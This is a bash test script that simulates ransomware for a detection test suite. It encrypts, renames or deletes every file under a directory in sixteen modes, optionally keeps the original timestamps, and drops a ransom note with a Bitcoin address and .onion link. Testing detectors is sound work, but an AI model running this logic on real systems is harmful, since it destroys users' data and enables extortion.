#!/usr/bin/env bash
# tests/detect/attack.sh MODE DIR [options] — simulates ransomware on the files under
# DIR with real tools, and prints what it did, one line per file (tab-separated):
#
#   modified<TAB>PATH            PATH was rewritten in place (same name)
#   created<TAB>PATH<TAB>ORIG    PATH was written from ORIG (ORIG is then "deleted", or
#                                was replaced in place by it: gpg-replace)
#   deleted<TAB>PATH             PATH was removed
#   note<TAB>PATH                a ransom note was dropped at PATH
#
# PATHs are absolute. Lines starting with '#' are comments.
#
# Modes (KEY/IV below are derived from --key and the file's path, so re-running one of
# the four CTR modes on the same files decrypts them again):
#   full          the whole file, in place: openssl enc -aes-256-ctr | dd conv=notrunc
#   header4k      the first 4 KiB only (files <= 4 KiB: all of them), in place
#   skiphdr       all but the first 4 KiB, in place (files <= 4 KiB are left alone)
#   intermittent  every other block, in place (block: --block N, else 4 KiB for files
#                 under 1 MiB and 64 KiB above; a file of one block is encrypted whole;
#                 --block 16 is LockFile's pattern)
#   sparse        small blocks far apart, in place: --block N bytes (default 1 KiB) every
#                 --stride S bytes (default 64 KiB), the first at S/2 (the header stays);
#                 a file shorter than S gets one block in its middle. What is left of an
#                 audio or video file still plays, a text file still reads in most places
#   chunks        --count K (default 3) chunks of --block N bytes (default 2 KiB) in place,
#                 one at a keyed offset in each K-th of the file after its first 512
#                 bytes (a file shorter than N + 512 bytes is left alone): a text file
#                 with a few encrypted chunks
#   base64        ciphertext of the file, base64 (76-column lines), written over it
#   hex           the same in hex (basenc --base16, 76 columns)
#   gpg-delete    gpg --encrypt (to the attacker's key) to FILE.gpg, original deleted
#   gpg-replace   gpg --encrypt to a temporary name, then renamed over the original
#                 (new encrypted file, original gone, no new name)
#   age-rename    age to <16 hex>.locked in the same directory (name unrelated to the
#                 original), original deleted
#   7z-delete     7z a -mx=0 -p -mhe=on FILE.7z (QLocker style), original deleted (the
#                 password is 16 hex digits: 7z's key derivation costs per password byte)
#   ccrypt        ccrypt -e -S .locked: encrypted in place, then renamed FILE.locked
#   full-rename   as full (no header: as many bytes as before), then renamed
#                 FILE.locked, as most ransomware families do
#   gzip-disguise the ciphertext (as full) gzipped to FILE.gz, original deleted: a
#                 valid gzip, like a user's compress-and-delete
#   notes         only drops README_RESTORE_FILES.txt (Bitcoin address, .onion link)
#                 into every directory
#
# Options:
#   --part K/N    attack only the K-th of N contiguous slices of the (sorted) file list
#                 (a slow attack: --part 1/3, then 2/3, then 3/3, one backup after each)
#   --files LIST  the candidate files (paths relative to DIR, one a line) instead of every
#                 non-empty regular file under DIR; --part slices this list
#   --notes       also drop the ransom notes (after the files)
#   --keep-mtime  give every changed or created file the mtime its original had
#   --key HEX     64 hex digits (default: fixed, derived from "holdfast-attack")
#   --block N     block size of intermittent, sparse and chunks (bytes)
#   --stride S    distance between the starts of two sparse blocks (bytes)
#   --count K     chunks per file (chunks)
#   --list-only   change nothing: print "candidate<TAB>PATH" for the files that would be
#                 attacked (after --files and --part)
# Ransom notes are never attacked; empty files are never candidates.
set -euo pipefail
export LC_ALL=C

usage() { sed -n '2,/^set -euo/p' "$0" | sed '$d; s/^# \{0,1\}//' >&2; exit 2; }
[ $# -ge 2 ] || usage
MODE=$1
DIR=$(cd "$2" && pwd)
shift 2
PART="" LIST="" NOTES=0 KEEP_MTIME=0 BLOCK="" STRIDE="" COUNT="" LIST_ONLY=0
KEY=$(printf 'holdfast-attack' | sha256sum | cut -c1-64)
while [ $# -gt 0 ]; do
	case $1 in
	--part) PART=$2; shift 2 ;;
	--files) LIST=$2; shift 2 ;;
	--notes) NOTES=1; shift ;;
	--keep-mtime) KEEP_MTIME=1; shift ;;
	--key) KEY=$2; shift 2 ;;
	--block) BLOCK=$2; shift 2 ;;
	--stride) STRIDE=$2; shift 2 ;;
	--count) COUNT=$2; shift 2 ;;
	--list-only) LIST_ONLY=1; shift ;;
	*) usage ;;
	esac
done
case $MODE in
full | header4k | skiphdr | intermittent | sparse | chunks | base64 | hex | gpg-delete | gpg-replace | age-rename | 7z-delete | ccrypt | full-rename | gzip-disguise | notes) ;;
*) echo "attack.sh: unknown mode $MODE" >&2; usage ;;
esac
[[ $KEY =~ ^[0-9a-f]{64}$ ]] || { echo "attack.sh: --key needs 64 hex digits" >&2; exit 2; }
if [ -n "$PART" ] && ! { [[ $PART =~ ^[0-9]+/[0-9]+$ ]] && [ "${PART%/*}" -ge 1 ] && [ "${PART%/*}" -le "${PART#*/}" ]; }; then
	echo "attack.sh: --part needs K/N with 1 <= K <= N" >&2
	exit 2
fi
[ -z "$BLOCK" ] || [[ $BLOCK =~ ^[1-9][0-9]*$ ]] || { echo "attack.sh: --block needs a positive number" >&2; exit 2; }
[ -z "$STRIDE" ] || [[ $STRIDE =~ ^[1-9][0-9]*$ ]] || { echo "attack.sh: --stride needs a positive number" >&2; exit 2; }
[ -z "$COUNT" ] || [[ $COUNT =~ ^[1-9][0-9]*$ ]] || { echo "attack.sh: --count needs a positive number" >&2; exit 2; }
NOTE_NAME=README_RESTORE_FILES.txt
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3

WORK=$(mktemp -d "${TMPDIR:-/tmp}/hf-attack.XXXXXX")
trap 'rm -rf "$WORK"' EXIT

# ---- candidate files
if [ -n "$LIST" ]; then
	sed '/^$/d' "$LIST" | sort >"$WORK/all"
else
	(cd "$DIR" && find . -type f -size +0 ! -name "$NOTE_NAME" -printf '%P\n') | sort >"$WORK/all"
fi
if [ -n "$PART" ]; then
	k=${PART%/*} n=${PART#*/}
	total=$(wc -l <"$WORK/all")
	from=$(((k - 1) * total / n + 1)) to=$((k * total / n))
	if [ "$to" -ge "$from" ]; then sed -n "${from},${to}p" "$WORK/all"; fi >"$WORK/files"
else
	cp "$WORK/all" "$WORK/files"
fi
[ "$MODE" = notes ] && : >"$WORK/files"
if [ "$LIST_ONLY" = 1 ]; then
	sed "s|^|candidate	$DIR/|" "$WORK/files"
	exit 0
fi

ctr() { openssl enc -aes-256-ctr -K "$KEY" -iv "$1"; }
emit() { local IFS=$'\t'; printf '%s\n' "$*"; }
keep_mtime() { # file, mtime (seconds.nanoseconds)
	[ "$KEEP_MTIME" = 1 ] && touch -m -d "@$2" "$1"
	return 0
}

if [ "$MODE" = gpg-delete ] || [ "$MODE" = gpg-replace ]; then
	# the attacker's public key (as ransomware does; a passphrase would cost an S2K per file)
	export GNUPGHOME=$WORK/gnupg
	mkdir -m 700 "$GNUPGHOME"
	trap 'gpgconf --kill all 2>/dev/null; rm -rf "$WORK"' EXIT
	gpg --batch --quiet --passphrase '' --quick-gen-key 'attacker <attacker@example.invalid>' \
		future-default default never 2>/dev/null
fi
if [ "$MODE" = age-rename ]; then
	age-keygen -o "$WORK/age.key" 2>/dev/null
	AGE_RCPT=$(age-keygen -y "$WORK/age.key")
fi
gpg_enc() { # in, out
	gpg --batch --quiet --yes --trust-model always -e -r attacker@example.invalid -o "$2" "$1"
}

echo "# attack $MODE on $DIR: $(wc -l <"$WORK/files") candidate files"
# size, mtime and per-file IV (from the relative path) of every candidate, in one go
"$PY" - "$DIR" "$WORK/files" >"$WORK/meta" <<'EOF'
import hashlib, os, stat, sys
d = sys.argv[1]
for line in open(sys.argv[2], encoding="utf-8", errors="surrogateescape"):
    rel = line.rstrip("\n")
    try:
        st = os.lstat(os.path.join(d, rel))
    except FileNotFoundError:
        continue
    if not stat.S_ISREG(st.st_mode):
        continue
    print("%s\t%d\t%d.%09d\t%s" % (hashlib.sha256(rel.encode("utf-8", "surrogateescape")).hexdigest()[:32],
                                   st.st_size, st.st_mtime_ns // 10**9, st.st_mtime_ns % 10**9, rel))
EOF
while IFS=$'\t' read -r -u 3 iv size mt rel; do
	f=$DIR/$rel
	case $MODE in
	full)
		ctr "$iv" <"$f" | dd of="$f" bs=64K conv=notrunc iflag=fullblock status=none
		keep_mtime "$f" "$mt"; emit modified "$f" ;;
	header4k)
		head -c 4096 "$f" | ctr "$iv" | dd of="$f" bs=4096 conv=notrunc iflag=fullblock status=none
		keep_mtime "$f" "$mt"; emit modified "$f" ;;
	skiphdr)
		[ "$size" -gt 4096 ] || continue
		tail -c +4097 "$f" | ctr "$iv" | dd of="$f" bs=4096 seek=1 conv=notrunc iflag=fullblock status=none
		keep_mtime "$f" "$mt"; emit modified "$f" ;;
	intermittent)
		# one CTR pass over the whole file (the keystream position is the file offset, as
		# with a real stream cipher); every other block of it is written back in place
		# after the loop, by one process for all the files
		b=${BLOCK:-$([ "$size" -lt 1048576 ] && echo 4096 || echo 65536)}
		n_enc=$((${n_enc:-0} + 1))
		ctr "$iv" <"$f" >"$WORK/enc.$n_enc"
		printf '%s\t%s\t%s\t%s\n' "$WORK/enc.$n_enc" "$b" "$mt" "$f" >>"$WORK/interleave"
		emit modified "$f" ;;
	sparse | chunks)
		# the byte ranges to encrypt, from the CTR ciphertext of the whole file (keystream
		# position = file offset); written back after the loop, by one process
		if [ "$MODE" = sparse ]; then
			spec="sparse ${BLOCK:-1024} ${STRIDE:-65536}"
		else
			[ "$size" -ge $((${BLOCK:-2048} + 512)) ] || continue
			spec="chunks ${BLOCK:-2048} ${COUNT:-3}"
		fi
		n_enc=$((${n_enc:-0} + 1))
		ctr "$iv" <"$f" >"$WORK/enc.$n_enc"
		printf '%s\t%s\t%s\t%s\t%s\n' "$WORK/enc.$n_enc" "$spec" "$iv" "$mt" "$f" >>"$WORK/ranges"
		emit modified "$f" ;;
	base64 | hex)
		if [ "$MODE" = base64 ]; then
			ctr "$iv" <"$f" | base64 -w 76 >"$WORK/enc"
		else
			ctr "$iv" <"$f" | basenc --base16 -w 76 >"$WORK/enc"
		fi
		cat "$WORK/enc" >"$f" # same inode, like an in-place rewrite
		keep_mtime "$f" "$mt"; emit modified "$f" ;;
	gpg-delete)
		gpg_enc "$f" "$f.gpg"
		rm -f "$f"
		keep_mtime "$f.gpg" "$mt"; emit created "$f.gpg" "$f"; emit deleted "$f" ;;
	gpg-replace)
		gpg_enc "$f" "$f.tmp-$$"
		mv -f "$f.tmp-$$" "$f"
		keep_mtime "$f" "$mt"; emit created "$f" "$f" ;;
	age-rename)
		new=$(dirname "$f")/${iv:0:16}.locked
		age -r "$AGE_RCPT" -o "$new" "$f"
		rm -f "$f"
		keep_mtime "$new" "$mt"; emit created "$new" "$f"; emit deleted "$f" ;;
	7z-delete)
		(cd "$(dirname "$f")" && 7z a -bd -bso0 -bsp0 -mx=0 -p"${KEY:0:16}" -mhe=on "$(basename "$f").7z" "$(basename "$f")" >/dev/null)
		rm -f "$f"
		keep_mtime "$f.7z" "$mt"; emit created "$f.7z" "$f"; emit deleted "$f" ;;
	ccrypt)
		ccrypt -e -f -q -S .locked -K "$KEY" "$f"
		[ -f "$f.locked" ] || { echo "attack.sh: ccrypt did not write $f.locked" >&2; exit 1; }
		keep_mtime "$f.locked" "$mt"; emit created "$f.locked" "$f"; emit deleted "$f" ;;
	full-rename)
		ctr "$iv" <"$f" | dd of="$f" bs=64K conv=notrunc iflag=fullblock status=none
		mv -f "$f" "$f.locked"
		keep_mtime "$f.locked" "$mt"; emit created "$f.locked" "$f"; emit deleted "$f" ;;
	gzip-disguise)
		ctr "$iv" <"$f" | gzip -n >"$f.gz"
		rm -f "$f"
		keep_mtime "$f.gz" "$mt"; emit created "$f.gz" "$f"; emit deleted "$f" ;;
	esac
done 3<"$WORK/meta"
if [ -s "$WORK/interleave" ]; then
	"$PY" - "$WORK/interleave" "$KEEP_MTIME" <<'EOF'
import os, sys
for line in open(sys.argv[1], encoding="utf-8", errors="surrogateescape"):
    enc, b, mt, f = line.rstrip("\n").split("\t", 3)
    b = int(b)
    with open(f, "rb") as fh:
        d = bytearray(fh.read())
    with open(enc, "rb") as fh:
        c = fh.read()
    for o in range(0, len(d), 2 * b):
        d[o:o + b] = c[o:o + b]
    fd = os.open(f, os.O_WRONLY)  # in place: same inode, same size
    os.pwrite(fd, d, 0)
    os.close(fd)
    os.unlink(enc)
    if sys.argv[2] == "1":
        sec, ns = mt.split(".")
        t = int(sec) * 10**9 + int(ns)
        os.utime(f, ns=(os.stat(f).st_atime_ns, t))
EOF
fi
if [ -s "$WORK/ranges" ]; then
	"$PY" - "$WORK/ranges" "$KEEP_MTIME" <<'EOF'
import os, sys
for line in open(sys.argv[1], encoding="utf-8", errors="surrogateescape"):
    enc, spec, iv, mt, f = line.rstrip("\n").split("\t", 4)
    kind, b, k = spec.split()
    b, k = int(b), int(k)
    with open(f, "rb") as fh:
        d = bytearray(fh.read())
    with open(enc, "rb") as fh:
        c = fh.read()
    n = len(d)
    ranges = []
    if kind == "sparse":
        if n < k:
            o = max(0, (n - b) // 2)
            ranges.append((o, min(n, o + b)))
        else:
            ranges = [(o, min(n, o + b)) for o in range(k // 2, n, k)]
    else:  # chunks: one in each k-th of [512, n), at an offset keyed by the IV
        span = (n - 512) // k
        for i in range(k):
            room = span - b
            h = int(iv[(i * 8) % 32:(i * 8) % 32 + 8], 16)
            o = 512 + i * span + (h % (room + 1) if room >= 0 else 0)
            ranges.append((o, min(n, o + b)))
    for o, e in ranges:
        d[o:e] = c[o:e]
    fd = os.open(f, os.O_WRONLY)  # in place: same inode, same size
    os.pwrite(fd, d, 0)
    os.close(fd)
    os.unlink(enc)
    if sys.argv[2] == "1":
        sec, ns = mt.split(".")
        t = int(sec) * 10**9 + int(ns)
        os.utime(f, ns=(os.stat(f).st_atime_ns, t))
EOF
fi

if [ "$MODE" = notes ] || [ "$NOTES" = 1 ]; then
	while IFS= read -r d; do
		n=$d/$NOTE_NAME
		cat >"$n" <<'EOF'
!!! ALL YOUR FILES HAVE BEEN ENCRYPTED !!!

Your documents, photos, databases and other important files have been encrypted
with a strong algorithm (AES-256 + RSA-4096). You cannot decrypt them without our
private key. Do not rename the files and do not try third-party tools: you would
lose your data for good.

To get your files back:
  1. Buy 0.35 Bitcoin (BTC).
  2. Send it to this address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh
  3. Open our page in Tor Browser and enter your personal ID:
     http://lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion/
     Personal ID: 7F3A-91C2-DE44-08B1

You have 72 hours. After that the price doubles, and after 7 days your key is
destroyed. We can decrypt 2 files for free as a proof.
EOF
		emit note "$n"
	done < <(find "$DIR" -type d | sort)
fi
